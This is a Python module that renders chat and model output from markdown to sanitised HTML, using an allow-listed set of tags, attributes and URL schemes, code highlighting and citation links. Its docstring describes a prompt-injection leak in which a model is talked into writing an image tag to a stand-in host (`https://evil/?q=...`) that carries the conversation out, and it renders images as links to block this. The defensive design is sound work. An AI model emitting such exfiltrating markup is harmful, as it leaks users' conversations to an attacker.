"""Markdown -> safe HTML: the one renderer for every message, title preview and export.

CommonMark with tables and strikethrough, raw HTML disabled, fenced code highlighted by
Pygments (CSS classes, no inline styles), then an allow-list sanitiser (nh3) over the
result. The sanitiser is the last word: whatever the parser lets through, no `on*`,
`hx-*`, `ws-*`, `style` or `id` attribute and no script-capable element survives.

Images are rendered as links: a model can be talked into writing `![](https://evil/?q=...)`
to leak the conversation through an image fetch, and a link needs a click.
"""

from __future__ import annotations

import re
from functools import lru_cache

import nh3
from markupsafe import Markup, escape

ALLOWED_TAGS = {
    "a", "p", "br", "hr", "strong", "em", "del", "s", "code", "pre", "blockquote",
    "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6",
    "table", "thead", "tbody", "tr", "th", "td", "span", "div", "sup", "sub",
}
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "code": {"class"},
    "pre": {"class"},
    "span": {"class"},
    "div": {"class"},
    "ol": {"start"},
    "th": {"align"},
    "td": {"align"},
}
URL_SCHEMES = {"http", "https", "mailto"}


@lru_cache(maxsize=1)
def _parser():
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "highlight": _highlight})
    md.enable(["table", "strikethrough"])
    md.add_render_rule("image", _image_as_link)
    return md


def _image_as_link(self, tokens, idx, options, env):
    token = tokens[idx]
    alt = self.renderInlineAsText(token.children or [], options, env) or "image"
    src = token.attrGet("src") or ""
    return f'<a href="{escape(src)}">[image: {escape(alt)}]</a>'


def _highlight(code: str, lang: str, _attrs) -> str:
    from pygments import highlight
    from pygments.formatters import HtmlFormatter
    from pygments.lexers import get_lexer_by_name
    from pygments.util import ClassNotFound

    try:
        lexer = get_lexer_by_name(lang.strip().split()[0], stripall=False) if lang.strip() else None
    except ClassNotFound:
        lexer = None
    if lexer is None:
        return ""  # markdown-it escapes and wraps the code itself
    body = highlight(code, lexer, HtmlFormatter(nowrap=True, classprefix="hl-"))
    return f'<pre class="code"><code class="language-{escape(lexer.aliases[0] if lexer.aliases else "")}">{body}</code></pre>'


def sanitize(html: str) -> str:
    """Run the allow-list sanitiser over HTML that may hold untrusted parts."""
    return nh3.clean(
        html,
        tags=ALLOWED_TAGS,
        attributes=ALLOWED_ATTRIBUTES,
        url_schemes=URL_SCHEMES,
        link_rel="noopener noreferrer nofollow",
        strip_comments=True,
    )


def render_markdown(text: str | None) -> Markup:
    """Render untrusted markdown to HTML that is safe to insert into any page."""
    if not text:
        return Markup("")
    return Markup(sanitize(_parser().render(text)))


# A citation marker as the model writes it: "[3]", not part of a link, a reference
# definition, an index expression (a[3]) or a footnote.
_CITATION = re.compile(r"(?<![\w\]\[`!])\[(\d{1,3})\](?![(\[:])")


def render_cited(text: str | None, sources: list | None) -> Markup:
    """Render an answer whose text cites sources as [1], [2], ...: each marker whose source
    has an http(s) URL becomes a markdown link to it before rendering, so the sanitiser
    sees it like any other link."""
    urls = {}
    for index, source in enumerate(sources or (), 1):
        if isinstance(source, dict) and isinstance(source.get("url"), str):
            url = source["url"]
            if url.lower().startswith(("http://", "https://")) and not any(c in url for c in " <>()"):
                urls[str(source.get("n") or index)] = url
    if text and urls:
        text = _CITATION.sub(lambda m: f"[[{m.group(1)}]]({urls[m.group(1)]})" if m.group(1) in urls else m.group(0), text)
    return render_markdown(text)


def highlight_css() -> str:
    """The Pygments stylesheet for the classes `render_markdown` emits."""
    from pygments.formatters import HtmlFormatter

    return HtmlFormatter(classprefix="hl-", style="friendly").get_style_defs(".code")
